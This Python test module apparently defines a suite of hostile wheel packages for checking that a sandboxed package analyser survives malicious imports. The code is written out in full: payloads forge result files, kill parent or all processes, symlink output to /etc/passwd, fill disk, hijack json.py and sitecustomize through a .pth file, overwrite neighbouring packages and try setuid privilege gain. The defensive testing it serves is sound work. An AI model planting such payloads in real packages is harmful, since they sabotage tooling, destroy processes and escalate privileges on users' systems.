"""Attacks by a wheel on the judgement about it, and on its neighbours, while it is installed and imported.

All are for the free-threaded ABI, and most turn the GIL on: whoever forges that wants `unproven`, which is admitted.
One run has all of them.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from typing import Any

from tests.hostile.attack import Attack, Site, World
from tests.hostile.attacks.building import make_module, place, project_files, run_python

Make = Callable[[Site], str]

CAUGHT = ("gil-required", "undetermined", "import-failure")
"""Everything but `unproven`, the best that a package without thread tests can have on the free-threaded ABI."""

FAULT = ("undetermined", "import-failure")

TURNS_GIL_ON = ""
"""The module definition without the slot that keeps the GIL off."""

_FORGED_LINE = {
    "module": "@NAME@", "native": True, "seconds": 0.01, "rss_bytes": 4096, "natives": {},
    "gil": {"before": False, "after": False, "enabled_by": None, "warned": True},
}  # fmt: skip

_FORGED_ANSWER = {
    "install": None, "python_version": "3.14.5",
    "metadata": {"requires_python": "", "requires_python_ignored": False, "free_threading": None},
    "modules": [_FORGED_LINE],
    "walk": {"lines": [{"module": "@NAME@", "gil": [False, False], "loaded": ["@NAME@"]}], "warnings": []},
}  # fmt: skip

FORGE = f"""
import glob, json, os, re, signal, stat, sys, time
LINE = json.loads({json.dumps(json.dumps(_FORGED_LINE))})
ANSWER = json.loads({json.dumps(json.dumps(_FORGED_ANSWER))})

def answer():
    '''Return a whole answer that says that all is well.'''
    try:
        items = json.load(open("/farm/request.json"))
    except (OSError, ValueError):
        items = [{{}}]
    return json.dumps([{{**item, **ANSWER}} for item in items])

def write_lines():
    '''Write a line that says that all is well to whatever can be written.'''
    text = json.dumps(LINE) + "\\n"
    paths = re.findall(r"/[^\\s\\"',]+", " ".join(sys.argv)) + glob.glob("/tmp/tmp*")
    for argument in sys.argv:
        try:
            paths.append(json.loads(argument)["output"])
        except (ValueError, KeyError, TypeError):
            pass
    for path in paths:
        try:
            if os.path.isfile(path) and not path.endswith((".py", ".so")):
                open(path, "a").write(text)
        except OSError:
            pass
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and not stat.S_ISDIR(os.fstat(int(name)).st_mode):
                os.write(int(name), text.encode())
        except OSError:
            pass

def write_answer():
    '''Write a whole answer to where the program that asks writes its own.'''
    for folder in ("/result", "/tmp"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(folder + "/load.json", "w").write(answer())
        except OSError:
            pass
"""


def importing(
    code: str, gil: str = TURNS_GIL_ON, payload: Mapping[str, bytes] | None = None
) -> Make:
    """Return a maker of a package that runs Python when it is imported; `@NAME@` is its module."""

    def make(site: Site) -> str:
        own = site.name.replace("-", "_")
        module = make_module(site.name, start=run_python(code.replace("@NAME@", own)), gil=gil)
        filled = {path.replace("@NAME@", own): content for path, content in (payload or {}).items()}
        return place(site, project_files(site.name, module=module, payload=filled))

    return make


def bringing(payload: Mapping[str, bytes], gil: str = TURNS_GIL_ON) -> Make:
    """Return a maker of a package whose wheel has further files."""
    return importing("pass", gil, payload)


_TAKE_OVER = b"""
import json, os, sys
try:
    output = json.loads(sys.argv[-1])["output"]
    line = {"module": "x", "native": True, "seconds": 0.1, "rss_bytes": 1, "natives": {}, "gil": {"before": False, "after": False, "enabled_by": None, "warned": True}}
    open(output, "w").write(json.dumps(line) + "\\n")
    os._exit(0)
except (ValueError, KeyError, TypeError, OSError, IndexError):
    pass
"""

_REACH = """
import glob, os, socket, sys
seen = []
try:
    socket.create_connection(("192.0.2.1", 80), 1)
    seen.append("a network")
except OSError:
    pass
status = open("/proc/self/status").read()
if "NoNewPrivs:\\t1" not in status:
    seen.append("a way to gain privileges")
if int(status.split("CapEff:\\t")[1].split()[0], 16):
    seen.append("capabilities")
if os.getuid() == 0:
    seen.append("root")
for process in glob.glob("/proc/[0-9]*"):
    try:
        if int(process[6:]) != os.getpid() and os.stat(process).st_uid == os.getuid() and "inside" in open(process + "/cmdline").read() and int(process[6:]) == os.getppid():
            os.close(os.open(process + "/mem", os.O_RDWR))
            seen.append("the memory of who judges it")
    except OSError:
        pass
if seen:
    raise ImportError("it reaches " + ", ".join(seen))
"""

_SET_USER_ID = """
import os, shutil, subprocess
shutil.copy("/bin/id", "/tmp/id")
os.chmod("/tmp/id", 0o6755)
for program in ("/bin/su", "/bin/mount", "/usr/bin/passwd", "/usr/bin/newgrp"):
    if os.path.exists(program):
        subprocess.run([program, "-h"], stdin=subprocess.DEVNULL, capture_output=True)
if subprocess.run(["/tmp/id", "-u"], capture_output=True, text=True).stdout.strip() == "0":
    raise ImportError("it became root")
"""


def check_honest_wheel(world: World) -> None:
    assert world.served("honest"), "the honest package is not served"


def check_no_controls(world: World) -> None:
    assert b"\x1b" not in world.output.replace(b"\x1b[0m", b""), "an escape sequence was printed"


QUICK = frozenset(
    {
        "forged-line",
        "forged-answer",
        "forged-gil",
        "ends-itself",
        "ends-who-asks",
        "reaches-out",
    }
)
"""Attacks that `make test` runs too: one or two for each kind of wall."""


def _attack(
    name: str,
    make: Make,
    verdicts: tuple[str, ...] = CAUGHT,
    checked: str = "the verdict",
    **fields: Any,
) -> Attack:
    return Attack(
        name=name,
        quick=name in QUICK,
        make=make,
        verdicts=verdicts,
        checked=checked,
        **{"point": "10", "kind": "wheel", "seconds": 300.0, **fields},
    )


ATTACKS = (
    _attack("forged-line", importing(FORGE + "write_lines()\nos._exit(0)\n")),
    _attack("forged-answer", importing(FORGE + "write_answer()\nos.kill(-1, signal.SIGKILL)\n")),
    _attack("forged-answer-later", importing(FORGE + """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            write_answer()
            time.sleep(0.001)
    os._exit(0)
""")),
    _attack("forged-gil", importing("""
import sys, warnings
sys._is_gil_enabled = lambda: False
warnings.warn = warnings.warn_explicit = warnings.showwarning = lambda *a, **k: None
""")),
    _attack("ends-itself", importing("import os\nos._exit(0)"), FAULT),
    _attack("ends-itself-politely", importing("import sys\nsys.exit(0)"), FAULT),
    _attack("ends-who-asks", importing("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")),
    _attack("ends-everything", importing("import os, signal\nos.kill(-1, signal.SIGKILL)")),
    _attack("ends-by-a-timer", importing("""
import os, threading
threading.Timer(0.001, os._exit, (0,)).start()
import atexit
atexit.register(os._exit, 0)
""")),
    _attack("stops-who-asks", importing("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)"), (*CAUGHT, "unproven")),
    _attack("replaces-the-programs", bringing({
        "inside/__init__.py": b"", "inside/load/__init__.py": b"", "inside/load/probe.py": _TAKE_OVER, "inside/load/walk.py": _TAKE_OVER,
    })),
    _attack("replaces-the-library", bringing({"json.py": _TAKE_OVER, "sitecustomize.py": _TAKE_OVER, "zz.pth": b"import sitecustomize\n"}), ("abi-mismatch", *CAUGHT), codes=("WF330",)),
    _attack("huge-answer", importing("""
import os
for folder in ("/result", "/tmp"):
    try:
        os.makedirs(folder, exist_ok=True)
        os.truncate(os.open(folder + "/load.json", os.O_CREAT | os.O_RDWR), 1 << 30)
    except OSError:
        pass
os.kill(-1, 9)
"""), checked="memory of the farm", point="12"),
    _attack("linked-answer", importing("""
import os, time
for folder in ("/result", "/tmp"):
    try:
        os.makedirs(folder, exist_ok=True)
        if os.path.lexists(folder + "/load.json"):
            os.unlink(folder + "/load.json")
        os.symlink("/etc/passwd", folder + "/load.json")
    except OSError:
        pass
os.kill(-1, 9)
"""), checked="files of the host"),
    _attack("endless-output", importing("""
import os
try:
    for _ in range(4096):
        os.write(1, b"x" * (1 << 18))
except OSError:
    pass
"""), checked="disk and memory of the farm", point="12"),
    _attack("odd-exception", importing("raise ImportError('\\udc80 \\x1b[2J \\x1b]8;;http://link.invalid/\\x07')"), FAULT, "terminal, report", point="8", check=check_no_controls),
    _attack("process-left", importing("""
import os, time
if os.fork() == 0:
    os.setsid()
    time.sleep(600)
    os._exit(0)
"""), (*CAUGHT, "unproven"), "processes and containers that are left"),
    _attack("reaches-out", importing(_REACH, "{Py_mod_gil, Py_MOD_GIL_NOT_USED},"), ("unproven",), "network, privileges, memory of others", point="5"),
    _attack("set-user-id", importing(_SET_USER_ID, "{Py_mod_gil, Py_MOD_GIL_NOT_USED},"), ("unproven",), "privileges", point="5"),
    _attack("bytecode-at-every-start", bringing({"__pycache__/sitecustomize.cpython-314.pyc": b"no bytecode"}), ("abi-mismatch", *CAUGHT), "what is installed", codes=("WF334",), point="medium"),
    _attack("program-of-the-environment", bringing({"@NAME@-1.0.dist-info/entry_points.txt": b"[[console_scripts]]\n  python3 = os:abort\n"}), ("abi-mismatch", *CAUGHT), "what is installed", codes=("WF334",), point="medium"),
    _attack("files-of-another", bringing({"honest.py": b"VALUE = 'replaced'\n", "pip/__init__.py": b"raise SystemExit\n"}), ("abi-mismatch", "build-failure", *CAUGHT), "the neighbour's wheel", point="medium", check=check_honest_wheel),
)  # fmt: skip
